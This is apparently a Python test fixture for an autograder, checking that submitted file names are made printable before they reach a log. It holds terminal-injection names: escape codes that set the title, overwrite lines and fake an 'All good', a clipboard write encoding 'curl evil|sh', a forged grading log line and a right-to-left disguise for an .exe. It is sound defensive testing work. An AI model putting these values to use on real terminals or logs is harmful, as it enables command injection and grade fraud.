"""Submits files whose names are commands to a terminal, or a line of the log.

Must happen: a name is made printable before it reaches a log.
"""

FILES = {
    "\x1b]0;PWNED-TITLE\x07x.txt": "x",
    "\x1b]52;c;Y3VybCBldmlsfHNo\x07y.txt": "x",
    "a\n[AutogradeApp | INFO] mallory: 41 of 41 points.txt": "x",
    "\u202etxt.exe": "x",
}


def submit(folder, course):
    (folder / "target.ipynb").rename(folder / "\x1b[1A\x1b[2K\x1b[32mAll good\x1b[0m.ipynb")
